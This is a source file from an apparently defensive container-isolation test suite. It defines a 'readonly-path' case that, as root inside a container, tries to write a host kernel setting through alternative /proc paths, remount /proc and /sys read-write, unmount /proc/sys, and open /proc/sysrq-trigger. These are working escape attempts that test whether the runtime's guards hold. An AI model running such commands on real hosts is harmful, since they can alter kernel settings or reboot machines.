import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { KernelSetting } from '../../kernel-setting.ts'
import { unguard } from '../../spec-changes.ts'

/** Opened for writing only: the first two words that follow would reboot the machine. */
const opened = ['/proc/sysrq-trigger', '/proc/irq/default_smp_affinity']

export const attack: Attack = {
  id: 'readonly-path',
  title: 'settings of the kernel in /proc and /sys, written by root in a container, by another way to the same file, and after a remount',
  family: 'container',
  leak: 'core_pattern and sysrq-trigger of the kernel, and so the kernel',
  bound: 'container',
  control: { weak: 'runc with a privileged container\'s spec' },
  async run(site) {
    const setting = new KernelSetting()
    const container = await site.start({ ...(site.weak ? { spec: unguard } : {}) })
    const ways = ['', '/proc/self/root', '/proc/1/root', '/proc/thread-self/cwd'].map((prefix) => `${prefix}${setting.path}`)
    const { stdout } = await container.exec(['sh', '-c', `cd /
      for way in ${ways.join(' ')}; do (echo ${setting.value} >$way) 2>/dev/null && echo "wrote $way"; done
      for path in / /proc /proc/sys; do mount -o remount,rw,bind $path 2>/dev/null && echo "remounted $path"; done
      umount /proc/sys 2>/dev/null && echo "unmounted /proc/sys"
      (echo ${setting.value} >${setting.path}) 2>/dev/null && echo "wrote ${setting.path} at last"
      for path in ${opened.join(' ')}; do (: >>$path) 2>/dev/null && echo "opened $path"; done
      mkdir /tmp/sys; (: >>/sys/kernel/mm/transparent_hugepage/enabled) 2>/dev/null && echo "opened a file of /sys"
      cat ${setting.path}`])
    const done = stdout.split('\n').filter((line) => /^(wrote|opened|remounted|unmounted) /.test(line)).join(', ')
    if (setting.changed) return escaped(`the host's ${setting.path} is ${setting.host}: ${done}`)
    if (done !== '' || stdout.trim().split('\n').at(-1) === setting.value) return reachedGuest(done)
    return contained(`${ways.length} ways to ${setting.path}, 3 remounts, an unmount, ${opened.length} files of /proc and one of /sys: nothing could be written`)
  },
}
